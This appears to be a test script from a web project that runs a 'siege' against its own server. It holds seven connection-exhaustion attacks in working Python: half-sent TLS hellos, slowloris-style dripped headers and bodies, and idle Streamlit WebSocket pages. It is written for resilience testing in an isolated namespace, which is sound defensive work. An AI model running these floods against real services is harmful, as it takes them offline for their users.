"""A siege: one address opens many connections and does with them the least that keeps them open.

`python -m tests.siege URL KIND CONNECTIONS SECONDS`, in a network namespace: its address is the
hostile one. It replaces what is closed, and prints how many it opened and how many are open at its
end. Needs no package, so it starts at once.
"""

from __future__ import annotations

import asyncio
import resource
import ssl
import sys
from collections.abc import Awaitable, Callable
from contextlib import suppress
from urllib.parse import urlsplit

PAUSE = 1.0  # seconds before a connection that was closed is replaced
HELLO = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"  # TLS's first message, up to its random
PING = b"\x89\x04"  # of uvicorn: with four bytes, which a pong repeats
# Streamlit's question for the page: BackMsg(rerun_script=ClientState()).
RERUN = b"\x82\x82\0\0\0\0\x5a\x00"

Attack = Callable[[asyncio.StreamReader, asyncio.StreamWriter, str], Awaitable[None]]


async def _until_closed(reader: asyncio.StreamReader) -> None:
    while await reader.read(65_536):
        pass


async def _drip(writer: asyncio.StreamWriter) -> None:
    while True:
        writer.write(b"x")
        await writer.drain()
        await asyncio.sleep(1)


async def _drip_until_closed(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    dripping = asyncio.create_task(_drip(writer))
    try:
        await _until_closed(reader)
    finally:
        dripping.cancel()


async def half_hellos(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, _host: str
) -> None:
    """Begin TLS and say no more."""
    writer.write(HELLO)
    await _until_closed(reader)


async def half_headers(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str
) -> None:
    """Begin a request and say no more."""
    writer.write(f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Half: ".encode())
    await _until_closed(reader)


async def slow_headers(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str
) -> None:
    """Begin a request, and go on with one byte a second."""
    writer.write(f"GET / HTTP/1.1\r\nHost: {host}\r\nX-Slow: ".encode())
    await _drip_until_closed(reader, writer)


async def endless_bodies(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str
) -> None:
    """Send a request with a body, one byte of it a second."""
    writer.write(f"POST / HTTP/1.1\r\nHost: {host}\r\nContent-Length: 60000\r\n\r\n".encode())
    await _drip_until_closed(reader, writer)


async def _open_page(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str) -> None:
    writer.write(
        f"GET /_stcore/stream HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade\r\n"
        "Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        "Sec-WebSocket-Key: MDEyMzQ1Njc4OWFiY2RlZg==\r\n\r\n".encode()
    )
    head = await reader.readuntil(b"\r\n\r\n")
    if b" 101 " not in head:
        raise ConnectionError(head.splitlines()[0])


async def _answer_pings(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    while frames := await reader.read(65_536):
        _, found, rest = frames.rpartition(PING)
        if found:
            writer.write(b"\x8a\x84\0\0\0\0" + rest[:4])


async def silent_pages(
    reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str
) -> None:
    """Open a page and say nothing."""
    await _open_page(reader, writer, host)
    await _until_closed(reader)


async def pong_pages(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str) -> None:
    """Open a page and answer its pings, no more."""
    await _open_page(reader, writer, host)
    await _answer_pings(reader, writer)


async def idle_pages(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, host: str) -> None:
    """Open a page, ask for it once, and then answer pings only."""
    await _open_page(reader, writer, host)
    writer.write(RERUN)
    await _answer_pings(reader, writer)


KINDS: dict[str, Attack] = {
    attack.__name__: attack
    for attack in (
        half_hellos,
        half_headers,
        slow_headers,
        endless_bodies,
        silent_pages,
        pong_pages,
        idle_pages,
    )
}


async def besiege(url: str, kind: str, connections: int, seconds: float) -> tuple[int, int]:
    """Keep so many connections open for so long; return how many were opened, and are open."""
    parts = urlsplit(url)
    host, port = parts.hostname or "", parts.port or {"http": 80, "https": 443}[parts.scheme]
    context = None
    if parts.scheme == "https" and kind != "half_hellos":
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    opened = now_open = 0

    async def one(number: int) -> None:
        nonlocal opened, now_open
        await asyncio.sleep(number / connections)
        while True:
            with suppress(OSError, EOFError, asyncio.LimitOverrunError):
                reader, writer = await asyncio.open_connection(host, port, ssl=context)
                opened += 1
                now_open += 1
                try:
                    await KINDS[kind](reader, writer, host)
                finally:
                    now_open -= 1
                    writer.transport.abort()
            await asyncio.sleep(PAUSE)

    attackers = [asyncio.create_task(one(number)) for number in range(connections)]
    await asyncio.sleep(seconds)
    seen = opened, now_open
    for attacker in attackers:
        attacker.cancel()
    await asyncio.gather(*attackers, return_exceptions=True)
    return seen


if __name__ == "__main__":
    _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    url, kind, connections, seconds = sys.argv[1:]
    print(*asyncio.run(besiege(url, kind, int(connections), float(seconds))))
